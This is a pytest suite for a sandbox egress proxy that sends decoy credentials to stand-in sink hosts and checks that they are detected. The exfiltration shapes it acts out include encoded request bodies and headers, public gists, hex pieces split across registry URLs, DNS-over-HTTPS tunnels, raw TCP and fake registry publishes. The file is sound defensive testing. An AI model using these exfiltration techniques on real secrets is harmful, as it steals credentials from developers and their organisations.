"""The logging proxy as a real subprocess, driven by real clients on loopback."""

from __future__ import annotations

import base64
import contextlib
import gzip
import itertools
import json
import os
import re
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import requests

from cujo_action.arm import fingerprint_probe
from cujo_action.arm.fingerprint import differences, load_profile
from cujo_action.find.decoys import Decoy, make_decoys
from cujo_action.limits import BODY_SIZE, MiB
from cujo_action.net.egress import (
    RANK_EXPECTED,
    RANK_RUNTIME_UNEXPECTED,
    RANK_UNREAD,
    decide,
    egress_from_record,
    egress_rank,
    egress_record,
    host_allowed,
    parse_egress_log,
    split_label,
)
from cujo_action.net.helperconfig import DecoySpec
from cujo_action.net.lookalike.github_facts import ZEN
from cujo_action.net.lookalike.web import JSON_OK, WELCOME
from cujo_action.net.proxy.config import SYSTEM_CA, ProxyConfig
from cujo_action.net.proxy.process import (
    ProxyError,
    ProxyHandle,
    spawn_proxy,
    start_proxy,
    write_ca_bundle,
)
from cujo_action.net.proxy.request import REGISTRY_WRITE_BODY, request_size
from cujo_action.schema import REGISTRY_HOSTS

LABELS = ["install/install", "detonation/import", "tests/test"]
# A decoy whose url encoding differs from its plain form.
SLASHY = Decoy("SLASHY", "sk+live/" + secrets.token_hex(12) + "==", None, None)
SINK = "collector.exfil.test"
REGISTRY = "registry.npm.test"


# --------------------------------------------------------------------------- fixtures


class Upstream(ThreadingHTTPServer):
    """A loopback HTTP server that records what reaches it."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        # (method, path, body) of every request that was not a GET.
        self.writes: list[tuple[str, str, bytes]] = []
        super().__init__(("127.0.0.1", 0), UpstreamHandler)


class UpstreamHandler(BaseHTTPRequestHandler):
    server: Upstream

    def do_GET(self) -> None:
        self.server.seen.append(self.path)
        body = b"from upstream"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _write(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.server.writes.append((self.command, self.path, body))
        self.send_response(201)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_PUT = do_POST = do_DELETE = do_PATCH = _write

    def log_message(self, format: str, *args: Any) -> None:
        pass


@dataclass
class Proxy:
    handle: ProxyHandle
    config: ProxyConfig
    decoys: tuple[Decoy, ...]
    bundle: Path
    upstream: Upstream

    def url(self, label: str = LABELS[0]) -> str:
        return f"http://127.0.0.1:{self.handle.ports[label]}"

    def proxies(self, label: str = LABELS[0]) -> dict[str, str]:
        return {"http": self.url(label), "https": self.url(label)}

    def decoy(self, name: str) -> Decoy:
        return next(d for d in (*self.decoys, SLASHY) if d.name == name)

    def records(self, pred: Callable[[dict[str, Any]], bool]) -> list[dict[str, Any]]:
        return [r for r in parse_egress_log(self.config.log_path.read_bytes()).records if pred(r)]

    def wait_records(
        self, pred: Callable[[dict[str, Any]], bool], timeout: float = 15
    ) -> list[dict[str, Any]]:
        """Poll the log until a record matches, for lines written after a client is done."""
        deadline = time.monotonic() + timeout
        while not (found := self.records(pred)):
            assert self.handle.alive(), self.handle.stderr_path.read_text()
            if time.monotonic() > deadline:
                raise AssertionError(f"no matching record in {self.config.log_path}")
            time.sleep(0.02)
        return found


def make_config(tmp: Path, decoys: tuple[Decoy, ...], **extra: Any) -> ProxyConfig:
    return ProxyConfig(
        labels=extra.pop("labels", LABELS),
        confdir=tmp / "confdir",
        allow_hosts=extra.pop("allow_hosts", [*REGISTRY_HOSTS, "localhost", REGISTRY]),
        # localhost plays a registry (the upstream the tests control), REGISTRY one over
        # HTTPS that nothing answers.
        registry_hosts=extra.pop("registry_hosts", [*REGISTRY_HOSTS, "localhost", REGISTRY]),
        decoys=[DecoySpec(name=d.name, value=d.value) for d in (*decoys, SLASHY)],
        log_path=tmp / "egress.jsonl",
        ready_path=tmp / "ready.json",
        **extra,
    )


@pytest.fixture(scope="module")
def proxy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Proxy]:
    tmp = tmp_path_factory.mktemp("proxy")
    decoys = make_decoys()
    config = make_config(tmp, decoys)
    upstream = Upstream()
    thread = threading.Thread(target=upstream.serve_forever, daemon=True)
    thread.start()
    handle = start_proxy(config)
    try:
        bundle = write_ca_bundle(handle.ca_cert, tmp / "bundle.pem")
        yield Proxy(handle, config, decoys, bundle, upstream)
    finally:
        handle.stop()
        upstream.shutdown()
        upstream.server_close()
        thread.join()


def session() -> requests.Session:
    s = requests.Session()
    s.trust_env = False  # the machine's CA and proxy variables must not leak in
    return s


def tag() -> str:
    return "t" + secrets.token_hex(6)


def connect(proxy: Proxy, target: str, headers: str = "") -> socket.socket:
    sock = socket.create_connection(("127.0.0.1", proxy.handle.ports[LABELS[0]]), timeout=10)
    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n{headers}\r\n".encode())
    assert sock.recv(4096).startswith(b"HTTP/1.1 200")
    return sock


def child_env(drop_prefixes: tuple[str, ...] = ()) -> dict[str, str]:
    """Return the environment minus proxy settings and the given variable prefixes."""
    proxy_vars = {"http_proxy", "https_proxy", "all_proxy", "no_proxy"}
    return {
        k: v
        for k, v in os.environ.items()
        if k.lower() not in proxy_vars and not k.startswith(drop_prefixes)
    }


# --------------------------------------------------------------------------- pure parts


def test_hosts_match_exactly_or_by_subdomain_glob() -> None:
    allow = ["pypi.org", "*.example.com"]
    assert host_allowed("pypi.org", allow)
    assert host_allowed("PyPI.org.", allow)
    assert host_allowed("cdn.example.com", allow)
    assert host_allowed("a.b.example.com", allow)
    assert not host_allowed("example.com", allow)
    assert not host_allowed("evilpypi.org", allow)
    assert not host_allowed("pypi.org.exfil.test", allow)
    assert not host_allowed("badexample.com", allow)
    assert not host_allowed("", allow)
    assert decide("files.pythonhosted.org", REGISTRY_HOSTS) == "forwarded"
    assert decide(SINK, REGISTRY_HOSTS) == "sunk"


@pytest.mark.parametrize(
    ("host", "method", "action"),
    [
        ("registry.npmjs.org", "GET", "forwarded"),
        ("registry.npmjs.org", "HEAD", "forwarded"),
        ("registry.npmjs.org", "PUT", "registry-write"),
        ("Registry.NPMJS.org.", "POST", "registry-write"),
        ("pypi.org", "DELETE", "registry-write"),
        ("pypi.org", "get", "registry-write"),  # methods are case-sensitive
        ("mirror.corp.test", "PUT", "forwarded"),  # egress_allow: not a registry
        (SINK, "PUT", "sunk"),
        (SINK, "GET", "sunk"),
    ],
)
def test_registries_are_read_only(host: str, method: str, action: str) -> None:
    allow = [*REGISTRY_HOSTS, "mirror.corp.test"]
    assert decide(host, allow, method=method, registry_hosts=REGISTRY_HOSTS) == action


def test_labels_must_name_a_check_and_a_phase(tmp_path: Path) -> None:
    assert split_label("detonation/import") == ("detonation", "import")
    for bad in ("install", "install/", "nope/install", "install/nope", "a/b/c"):
        with pytest.raises(ValueError, match="check/phase"):
            split_label(bad)
    with pytest.raises(ValueError, match="repeat"):
        make_config(tmp_path, (), labels=["tests/test", "tests/test"])


def test_request_size_counts_line_headers_and_body() -> None:
    headers = [(b"Host", b"a.test"), (b"X", b"yz")]
    # "GET / HTTP/1.1\r\n" + "Host: a.test\r\n" + "X: yz\r\n" + "\r\n" + 5 body bytes
    assert request_size("GET", "/", "HTTP/1.1", headers, 5) == 16 + 14 + 7 + 2 + 5


def test_records_become_report_egress_items() -> None:
    record = egress_record(
        ts=1.0,
        label="detonation/import",
        host=SINK,
        port=443,
        method="POST",
        url="https://" + SINK + "/" + "x" * 5000,
        bytes_out=10,
        action="sunk",
        decoy_seen=["GITHUB_TOKEN"],
        decoy_where=["body:base64"],
    )
    egress = egress_from_record(record, "detonation:egress:1")
    assert egress.phase == "import"
    assert egress.decoy_where == ["body:base64"]
    assert len(egress.url) <= 2000


def test_unsearched_opaque_and_tunnel_lines_reach_the_report_and_rank_first() -> None:
    def line(**extra: Any) -> dict[str, Any]:
        return egress_record(ts=1.0, label="tests/test", host=SINK, port=80, method="POST",
                             url="/", bytes_out=10, action="sunk", **extra)  # fmt: skip

    plain = line()
    assert {"unsearched", "opaque", "dns_tunnel"}.isdisjoint(plain)
    cut, dark, tunnel = (
        line(unsearched="body: over the limit"),
        line(opaque=True),
        line(dns_tunnel=True),
    )
    assert egress_from_record(cut, "tests:egress:1").unsearched == "body: over the limit"
    assert egress_from_record(dark, "tests:egress:2").opaque
    assert egress_from_record(tunnel, "tests:egress:3").dns_tunnel
    item = egress_from_record(plain, "tests:egress:4")
    assert (item.unsearched, item.opaque, item.dns_tunnel) == ("", False, False)
    # Ranked right after the decoy-bearing lines: a flood of plain lines cannot push them
    # out, and a flood of them cannot push out a decoy.
    for line in (cut, dark, tunnel):
        assert egress_rank(line, REGISTRY_HOSTS) == RANK_UNREAD
    assert egress_rank(plain, REGISTRY_HOSTS) == RANK_RUNTIME_UNEXPECTED
    # To an expected host an opaque upload is only what it is.
    assert egress_rank(dark, [*REGISTRY_HOSTS, SINK]) == RANK_EXPECTED


# --------------------------------------------------------------------------- sinking


def test_https_request_to_a_sink_host_is_answered_and_logged_with_decoys(proxy: Proxy) -> None:
    gh, aws, slashy = (proxy.decoy(n) for n in ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "SLASHY"))
    path = f"/{tag()}"
    body = json.dumps({"t": gh.value.encode().hex()}).encode()
    with session() as s:
        resp = s.post(
            f"https://{SINK}{path}?k={quote(slashy.value, safe='')}",
            data=body,
            headers={
                "Authorization": "Basic " + base64.b64encode(f"u:{aws.value}".encode()).decode()
            },
            proxies=proxy.proxies(),
            verify=str(proxy.bundle),
            timeout=10,
        )
    # Answered as a plain server answers a POST (lookalike/web.py), never an empty 200.
    assert (resp.status_code, resp.content) == (200, JSON_OK)
    assert (resp.headers["server"], resp.headers["content-type"]) == ("nginx", "application/json")
    # The request hook writes the line before the answer goes out: no waiting needed.
    (rec,) = proxy.records(lambda r: path in r["url"])
    assert rec["host"] == SINK
    assert rec["port"] == 443
    assert rec["method"] == "POST"
    assert rec["url"].startswith(f"https://{SINK}{path}?k=")
    assert rec["action"] == "sunk"
    assert rec["bytes_out"] > len(body) + len(path)
    assert set(rec["decoy_seen"]) == {"GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "SLASHY"}
    assert {"url:url", "authorization:base64", "body:hex"} <= set(rec["decoy_where"])
    assert (rec["label"], rec["check"], rec["phase"]) == ("install/install", "install", "install")


def test_plain_http_gzip_body_is_decoded_before_scanning(proxy: Proxy) -> None:
    npm = proxy.decoy("NPM_TOKEN")
    path = f"/{tag()}"
    raw = gzip.compress(json.dumps({"npmrc": npm.value}).encode())
    assert npm.value.encode() not in raw
    with session() as s:
        resp = s.post(
            f"http://{SINK}{path}",
            data=raw,
            headers={"Content-Encoding": "gzip"},
            proxies=proxy.proxies(),
            timeout=10,
        )
    assert (resp.status_code, resp.content) == (200, JSON_OK)
    (rec,) = proxy.records(lambda r: path in r["url"])
    assert (rec["port"], rec["action"], rec["decoy_seen"]) == (80, "sunk", ["NPM_TOKEN"])
    assert rec["decoy_where"] == ["body:plain"]


@pytest.mark.parametrize("coding", ["br", "zstd", "gzip, br"])
def test_brotli_and_zstd_bodies_are_decoded_capped_before_scanning(
    proxy: Proxy, coding: str
) -> None:
    import brotli
    import zstandard

    npm = proxy.decoy("NPM_TOKEN")
    path = f"/{tag()}"
    raw = json.dumps({"npmrc": npm.value}).encode()
    for token in [t.strip() for t in coding.split(",")]:  # in the order they were applied
        raw = {"br": brotli.compress, "gzip": gzip.compress,
               "zstd": zstandard.ZstdCompressor().compress}[token](raw)  # fmt: skip
    with session() as s:
        s.post(
            f"http://{SINK}{path}",
            data=raw,
            headers={"Content-Encoding": coding},
            proxies=proxy.proxies(),
            timeout=10,
        )
    (rec,) = proxy.records(lambda r: path in r["url"])
    assert (rec["decoy_seen"], rec["decoy_where"]) == (["NPM_TOKEN"], ["body:plain"])


def test_base64_of_a_json_dump_is_found_in_the_body(proxy: Proxy) -> None:
    decoys = proxy.decoys
    path = f"/{tag()}"
    blob = base64.b64encode(json.dumps({"env": {d.name: d.value for d in decoys}}).encode())
    with session() as s:
        s.put(f"https://{SINK}{path}", data=blob, proxies=proxy.proxies(), verify=str(proxy.bundle))
    (rec,) = proxy.records(lambda r: path in r["url"])
    assert set(rec["decoy_seen"]) == {d.name for d in decoys}
    assert rec["decoy_where"] == ["body:base64"]


def test_githubs_zen_is_a_proverb_with_githubs_headers_and_is_logged(proxy: Proxy) -> None:
    # No body: mitmproxy's response, set in the request hook (the direct path).
    path = f"/zen?{tag()}"
    with session() as s:
        resp = s.get(
            f"https://api.github.com{path}",
            proxies=proxy.proxies(),
            verify=str(proxy.bundle),
            timeout=10,
        )
    assert resp.status_code == 200
    assert resp.text in ZEN
    assert resp.headers["content-type"] == "text/plain;charset=utf-8"
    assert resp.headers["server"] == "github.com"
    assert resp.headers["x-ratelimit-limit"] == "60"
    assert re.fullmatch(r"[0-9A-F]{4}:[0-9A-F]{6}:[0-9A-F]{7}:[0-9A-F]{7}:[0-9A-F]{8}",
                        resp.headers["x-github-request-id"])  # fmt: skip
    (rec,) = proxy.records(lambda r: path in r["url"])
    assert (rec["host"], rec["method"], rec["action"]) == ("api.github.com", "GET", "sunk")
    assert rec["url"] == f"https://api.github.com{path}"
    assert rec["decoy_seen"] == []


def test_a_gist_made_with_the_jobs_token_is_created_and_logged_with_the_decoy(
    proxy: Proxy,
) -> None:
    # A body: the request goes to the proxy's sink, whose answer carries GitHub's headers.
    gh = proxy.decoy("GITHUB_TOKEN")
    files = {f"{tag()}.txt": {"content": f"GITHUB_TOKEN={gh.value}"}}
    with session() as s:
        resp = s.post(
            "https://api.github.com/gists",
            json={"public": True, "files": files},
            headers={
                "Authorization": f"Bearer {gh.value}",
                "Accept": "application/vnd.github+json",
            },
            proxies=proxy.proxies(),
            verify=str(proxy.bundle),
            timeout=10,
        )
    assert resp.status_code == 201, resp.text
    gist = resp.json()
    assert resp.headers["location"] == gist["url"] == f"https://api.github.com/gists/{gist['id']}"
    assert list(gist["files"]) == list(files)
    assert resp.headers["x-ratelimit-limit"] == "1000"  # the job's token's quota
    assert resp.headers["server"] == "github.com"
    assert "x-github-request-id" in resp.headers
    (rec,) = proxy.records(lambda r: r["url"] == "https://api.github.com/gists")
    assert (rec["method"], rec["action"], rec["decoy_seen"]) == ("POST", "sunk", ["GITHUB_TOKEN"])
    assert {"authorization:plain", "body:plain"} <= set(rec["decoy_where"])


def test_the_fingerprint_probe_reads_github_through_the_proxy_as_on_a_runner(
    proxy: Proxy, monkeypatch: pytest.MonkeyPatch
) -> None:
    def tunnel(host: str, port: int) -> socket.socket:
        return connect(proxy, f"{host}:{port}")

    monkeypatch.setattr(fingerprint_probe, "_connect", tunnel)
    monkeypatch.setenv("SSL_CERT_FILE", str(proxy.bundle))
    reading = fingerprint_probe.read_zen()
    fields = {
        name: rule
        for name, rule in load_profile()["fields"].items()
        if name.startswith(("zen.", "github.", "rate_limit.", "meta."))
    }
    assert len(fields) == 8
    assert differences(reading, {"fields": fields}) == [], reading
    assert reading["zen.length"] > 0


def test_head_gets_the_length_of_the_page_and_no_body(proxy: Proxy) -> None:
    path = f"/{tag()}"
    with socket.create_connection(("127.0.0.1", proxy.handle.ports[LABELS[0]]), timeout=10) as sock:
        # Two requests on one connection: a HEAD answered with a body would corrupt the
        # second answer.
        for method in ("HEAD", "GET"):
            sock.sendall(f"{method} http://{SINK}{path} HTTP/1.1\r\nHost: {SINK}\r\n\r\n".encode())
        got = b""
        while got.count(b"HTTP/1.1 ") < 2 or not got.endswith(WELCOME):
            chunk = sock.recv(65536)
            assert chunk, got
            got += chunk
    head, rest = got.split(b"\r\n\r\n", 1)
    assert head.startswith(b"HTTP/1.1 200")
    assert f"content-length: {len(WELCOME)}".encode() in head.lower()
    assert rest.startswith(b"HTTP/1.1 200"), rest[:100]
    assert rest.endswith(b"\r\n\r\n" + WELCOME)


def test_a_sunk_host_is_never_contacted(proxy: Proxy) -> None:
    # 127.0.0.1 is not allowed, so the real server there must see nothing.
    path = f"/{tag()}"
    url = f"http://127.0.0.1:{proxy.upstream.server_port}{path}"
    with session() as s:
        resp = s.get(url, proxies=proxy.proxies(), timeout=10)
    assert (resp.status_code, resp.content) == (200, WELCOME)
    assert proxy.upstream.seen == []
    (rec,) = proxy.records(lambda r: path in r["url"])
    assert rec["action"] == "sunk"


def test_an_allowed_host_is_forwarded(proxy: Proxy) -> None:
    path = f"/{tag()}"
    url = f"http://localhost:{proxy.upstream.server_port}{path}"
    with session() as s:
        resp = s.get(url, proxies=proxy.proxies(), timeout=10)
    assert (resp.status_code, resp.content) == (200, b"from upstream")
    assert path in proxy.upstream.seen
    (rec,) = proxy.records(lambda r: path in r["url"])
    assert (rec["host"], rec["action"]) == ("localhost", "forwarded")


@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
def test_curl_over_https_trusting_the_bundle(proxy: Proxy) -> None:
    gho = proxy.decoy("GH_OAUTH_TOKEN")
    path = f"/{tag()}"
    env = child_env() | {"CURL_CA_BUNDLE": str(proxy.bundle)}
    out = subprocess.run(
        [
            *("curl", "-sS", "--proxy", proxy.url(), "-o", "/dev/null", "-w", "%{http_code}"),
            *("-H", f"X-Token: {gho.value}", f"https://{SINK}{path}"),
        ],
        env=env,
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert (out.returncode, out.stdout) == (0, "200"), out.stderr
    (rec,) = proxy.records(lambda r: path in r["url"])
    assert (rec["method"], rec["action"]) == ("GET", "sunk")
    assert (rec["decoy_seen"], rec["decoy_where"]) == (["GH_OAUTH_TOKEN"], ["header:plain"])


# --------------------------------------------------------------------------- tunnels


def test_a_client_that_refuses_the_ca_still_leaves_a_connect_line(proxy: Proxy) -> None:
    host = f"{tag()}.exfil.test"
    with session() as s, pytest.raises(requests.exceptions.SSLError):
        s.get(f"https://{host}/", proxies=proxy.proxies(), verify=str(SYSTEM_CA), timeout=10)
    (rec,) = proxy.wait_records(lambda r: r["host"] == host)
    assert (rec["method"], rec["port"], rec["action"]) == ("CONNECT", 443, "refused")
    assert rec["url"] == f"{host}:443"
    assert rec["bytes_out"] > 0


def test_raw_tcp_through_connect_is_logged_scanned_and_closed(proxy: Proxy) -> None:
    host = f"{tag()}.exfil.test"
    gh = proxy.decoy("GITHUB_TOKEN")
    payload = b"\x00\x01\x02" + gh.value.encode().hex().encode()
    with connect(proxy, f"{host}:2525") as sock:
        sock.sendall(payload)
        # The proxy closes the tunnel after reading: no upstream ever answers.
        assert sock.recv(4096) == b""
    (rec,) = proxy.wait_records(lambda r: r["host"] == host)
    assert (rec["method"], rec["port"], rec["action"]) == ("CONNECT", 2525, "refused")
    assert (rec["decoy_seen"], rec["decoy_where"]) == (["GITHUB_TOKEN"], ["tcp:hex"])
    assert rec["bytes_out"] >= len(payload)


def test_raw_tcp_is_never_forwarded_even_to_an_allowed_host(proxy: Proxy) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        with connect(proxy, f"localhost:{port}") as sock:
            sock.sendall(b"\x00\x01 not tls, not http")
            assert sock.recv(4096) == b""
        # Had the proxy connected before closing the tunnel, it would wait here.
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()
    (rec,) = proxy.wait_records(lambda r: r["url"] == f"localhost:{port}")
    assert (rec["method"], rec["action"]) == ("CONNECT", "refused")


def test_text_that_is_not_http_through_connect_is_scanned_when_it_closes(proxy: Proxy) -> None:
    host = f"{tag()}.exfil.test"
    npm = proxy.decoy("NPM_TOKEN")
    with connect(proxy, f"{host}:25") as sock:
        sock.sendall(b"EHLO " + npm.value.encode() + b"\r\n")
        sock.shutdown(socket.SHUT_WR)
        assert sock.recv(4096) == b""
    (rec,) = proxy.wait_records(lambda r: r["host"] == host)
    assert (rec["method"], rec["action"], rec["decoy_seen"]) == (
        "CONNECT",
        "refused",
        ["NPM_TOKEN"],
    )


def test_a_decoy_in_the_connect_request_itself_is_logged(proxy: Proxy) -> None:
    host = f"{tag()}.exfil.test"
    aws = proxy.decoy("AWS_ACCESS_KEY_ID")
    auth = base64.b64encode(f"{aws.value}:x".encode()).decode()
    with connect(proxy, f"{host}:443", f"Proxy-Authorization: Basic {auth}\r\n"):
        (rec,) = proxy.wait_records(lambda r: r["host"] == host)
    assert (rec["method"], rec["action"]) == ("CONNECT", "sunk")
    assert (rec["decoy_seen"], rec["decoy_where"]) == (["AWS_ACCESS_KEY_ID"], ["header:base64"])


def test_each_port_attributes_its_label(proxy: Proxy) -> None:
    paths = {label: f"/{tag()}" for label in LABELS}
    with session() as s:
        for label, path in paths.items():
            s.get(f"http://{SINK}{path}", proxies=proxy.proxies(label), timeout=10)
    assert len(set(proxy.handle.ports.values())) == len(LABELS)
    by_path = {r["url"].removeprefix(f"http://{SINK}"): r for r in proxy.records(lambda r: True)}
    for label, path in paths.items():
        rec = by_path[path]
        assert rec["label"] == label
        assert f"{rec['check']}/{rec['phase']}" == label


# --------------------------------------------------------------------------- registries


def test_dns_over_https_is_named_with_the_name_it_asked_and_searched(proxy: Proxy) -> None:
    import dns.message

    token = proxy.decoy("GITHUB_TOKEN").value
    name = f"{token.encode().hex()[:60]}.{token.encode().hex()[60:]}.exfil.test"
    query = dns.message.make_query(name, "A")
    query.id = 0
    encoded = base64.urlsafe_b64encode(query.to_wire()).decode().rstrip("=")
    with session() as s:
        s.get(
            "https://dns.google/dns-query",
            params={"dns": encoded},
            headers={"accept": "application/dns-message"},
            proxies=proxy.proxies(),
            verify=str(proxy.bundle),
            timeout=10,
        )
        s.get("https://dns.google/", proxies=proxy.proxies(), verify=str(proxy.bundle))
    doh, page = proxy.records(lambda r: r["host"] == "dns.google")
    assert (doh["dns_name"], doh["action"]) == (name, "sunk")  # never reached the resolver
    assert doh["decoy_seen"] == ["GITHUB_TOKEN"]
    assert "doh:hex" in doh["decoy_where"]
    assert "dns_name" not in page


def _pieces_to_the_registry(proxy: Proxy, shape: str, data: str, size: int) -> list[dict[str, Any]]:
    """GET the registry once per ``size`` characters of ``data``, placed as ``shape``
    says; return the requests' log lines, in order."""
    marker = tag()
    base = f"http://localhost:{proxy.upstream.server_port}"
    with session() as s:
        for i in range(0, len(data), size):
            piece = data[i : i + size]
            url = shape.format(base=base, marker=marker, piece=piece)
            s.get(url, proxies=proxy.proxies(LABELS[-1]), timeout=10)
    proxy.wait_records(lambda r: marker in r["url"] and data[-size:] in r["url"])
    return proxy.records(lambda r: marker in r["url"])


@pytest.mark.parametrize(
    "shape",
    [
        "{base}/simple/{piece}/?m={marker}",  # a package name a request
        "{base}/search?q={piece}&page=1&m={marker}",  # a query string
        "{base}/pypi/{marker}/{piece}/json",
    ],
    ids=["path", "query", "path-between-static"],
)
def test_a_decoy_in_pieces_to_a_registry_is_found_joined(proxy: Proxy, shape: str) -> None:
    token = proxy.decoy("GITHUB_TOKEN").value.encode().hex()
    records = _pieces_to_the_registry(proxy, shape, token, 8)
    # No request holds a slice (8 hex characters each); the joined stream does.
    hits = [r for r in records if r["decoy_seen"]]
    assert hits, [r["url"] for r in records]
    assert hits[0]["decoy_seen"] == ["GITHUB_TOKEN"]
    assert "url:joined+hex" in hits[0]["decoy_where"]
    assert all(r["action"] == "forwarded" for r in records)  # a registry read, forwarded
    assert not any(r.get("dns_tunnel") for r in records)


def test_random_pieces_and_hashed_file_paths_to_a_registry_carry_nothing(proxy: Proxy) -> None:
    records = _pieces_to_the_registry(
        proxy, "{base}/simple/{piece}/?m={marker}", secrets.token_hex(200), 8
    )
    records += _pieces_to_the_registry(
        proxy, "{base}/packages/{piece}/pkg-1.0.tar.gz?m={marker}", secrets.token_hex(640), 64
    )
    assert not [r for r in records if r["decoy_seen"] or r.get("dns_tunnel")]


@pytest.mark.parametrize("method", ["PUT", "POST"])
def test_a_write_to_a_registry_is_answered_here_never_forwarded(proxy: Proxy, method: str) -> None:
    # What `npm publish` does with a stolen token: the tarball is base64 in a JSON body.
    npm = proxy.decoy("NPM_TOKEN")
    path = f"/{tag()}"
    blob = base64.b64encode(json.dumps({"npmrc": npm.value}).encode())
    body = gzip.compress(json.dumps({"_attachments": {"p.tgz": {"data": blob.decode()}}}).encode())
    url = f"http://localhost:{proxy.upstream.server_port}{path}"
    with session() as s:
        resp = s.request(
            method,
            url,
            data=body,
            headers={"Content-Encoding": "gzip", "Content-Type": "application/json"},
            proxies=proxy.proxies(),
            timeout=10,
        )
    assert resp.status_code == 403
    assert b"does not publish" in resp.content
    assert [w for w in proxy.upstream.writes if w[1] == path] == []
    (rec,) = proxy.records(lambda r: path in r["url"])
    assert (rec["host"], rec["method"], rec["action"]) == ("localhost", method, "registry-write")
    assert (rec["decoy_seen"], rec["decoy_where"]) == (["NPM_TOKEN"], ["body:base64"])
    assert rec["bytes_out"] > len(body)
    # Reads of the same registry still go through.
    with session() as s:
        got = s.get(url, proxies=proxy.proxies(), timeout=10)
    assert (got.status_code, got.content) == (200, b"from upstream")


def test_a_write_to_a_registry_over_https_is_answered_here(proxy: Proxy) -> None:
    path = f"/{tag()}"
    with session() as s:
        resp = s.put(
            f"https://{REGISTRY}{path}",
            data=b"{}",
            proxies=proxy.proxies(),
            verify=str(proxy.bundle),
            timeout=10,
        )
    # Forwarded, it would have got a 502: the name resolves nowhere.
    assert (resp.status_code, resp.content) == (403, REGISTRY_WRITE_BODY)
    (rec,) = proxy.records(lambda r: path in r["url"])
    assert (rec["host"], rec["port"], rec["action"]) == (REGISTRY, 443, "registry-write")


def test_a_write_to_an_allowed_host_that_is_no_registry_is_forwarded(tmp_path: Path) -> None:
    upstream = Upstream()
    thread = threading.Thread(target=upstream.serve_forever, daemon=True)
    thread.start()
    config = make_config(tmp_path, (), labels=["install/install"], registry_hosts=REGISTRY_HOSTS)
    handle = start_proxy(config)
    try:
        proxies = {"http": f"http://127.0.0.1:{handle.ports['install/install']}"}
        with session() as s:
            resp = s.put(f"http://localhost:{upstream.server_port}/up", data=b"x", proxies=proxies)
    finally:
        handle.stop()
        upstream.shutdown()
        upstream.server_close()
        thread.join()
    assert resp.status_code == 201
    assert upstream.writes == [("PUT", "/up", b"x")]
    (rec,) = parse_egress_log(config.log_path.read_bytes()).records
    assert (rec["method"], rec["action"]) == ("PUT", "forwarded")


@pytest.mark.slow
def test_pip_download_from_pypi_is_forwarded(proxy: Proxy, tmp_path: Path) -> None:
    label = "detonation/import"
    env = child_env(drop_prefixes=("PIP_",)) | {
        # /etc/pip.conf and PIP_FIND_LINKS point at local wheels: ignore both.
        "PIP_CONFIG_FILE": os.devnull,
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        "HTTPS_PROXY": proxy.url(label),
        "PIP_CERT": str(proxy.bundle),
        "REQUESTS_CA_BUNDLE": str(proxy.bundle),
        "SSL_CERT_FILE": str(proxy.bundle),
    }
    before = len(proxy.records(lambda r: r["label"] == label))
    out = subprocess.run(
        [
            *(sys.executable, "-m", "pip", "download", "--no-deps", "--no-cache-dir"),
            *("-d", str(tmp_path), "six==1.16.0", "--index-url", "https://pypi.org/simple"),
        ],
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert out.returncode == 0, out.stdout + out.stderr
    assert [p.name for p in tmp_path.iterdir()] == ["six-1.16.0-py2.py3-none-any.whl"]
    recs = proxy.records(lambda r: r["label"] == label)[before:]
    hosts = {(r["host"], r["action"]) for r in recs}
    assert ("pypi.org", "forwarded") in hosts
    assert ("files.pythonhosted.org", "forwarded") in hosts
    assert all(r["decoy_seen"] == [] for r in recs)


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
def test_npm_view_from_the_registry_is_forwarded(proxy: Proxy, tmp_path: Path) -> None:
    label = "tests/test"
    (tmp_path / "npmrc").write_text("")
    env = child_env(drop_prefixes=("npm_config_", "NPM_CONFIG_")) | {
        "https_proxy": proxy.url(label),
        "npm_config_https_proxy": proxy.url(label),
        "npm_config_cafile": str(proxy.bundle),
        "NODE_EXTRA_CA_CERTS": str(proxy.bundle),
        "npm_config_cache": str(tmp_path / "cache"),
        "npm_config_userconfig": str(tmp_path / "npmrc"),
        "npm_config_update_notifier": "false",
    }
    before = len(proxy.records(lambda r: r["label"] == label))
    out = subprocess.run(
        ["npm", "view", "is-number@7.0.0", "version"],
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
        cwd=tmp_path,
    )
    assert (out.returncode, out.stdout.strip()) == (0, "7.0.0"), out.stderr
    recs = proxy.records(lambda r: r["label"] == label)[before:]
    assert ("registry.npmjs.org", "forwarded") in {(r["host"], r["action"]) for r in recs}


# --------------------------------------------------------------------------- lifecycle


def test_lines_survive_a_sigkill_and_a_cut_last_line_is_reported(tmp_path: Path) -> None:
    decoys = make_decoys()
    config = make_config(tmp_path, decoys, labels=["install/install"])
    handle = start_proxy(config)
    try:
        with session() as s:
            for i in range(3):
                s.get(
                    f"http://{SINK}/kill{i}",
                    proxies={"http": f"http://127.0.0.1:{handle.ports['install/install']}"},
                )
    finally:
        os.kill(handle.pid, signal.SIGKILL)
        handle.process.wait()
    assert not handle.alive()
    log = parse_egress_log(config.log_path.read_bytes())
    assert [r["url"] for r in log.records] == [f"http://{SINK}/kill{i}" for i in range(3)]
    assert log.bad_lines == 0

    # A proxy killed in the middle of a write leaves a cut line behind.
    with open(config.log_path, "ab") as fh:
        fh.write(config.log_path.read_bytes().splitlines()[0][:40])
    log = parse_egress_log(config.log_path.read_bytes(), labels={"install/install"})
    assert (len(log.records), log.bad_lines) == (3, 1)
    assert parse_egress_log(config.log_path.read_bytes(), labels={"tests/test"}).records == []


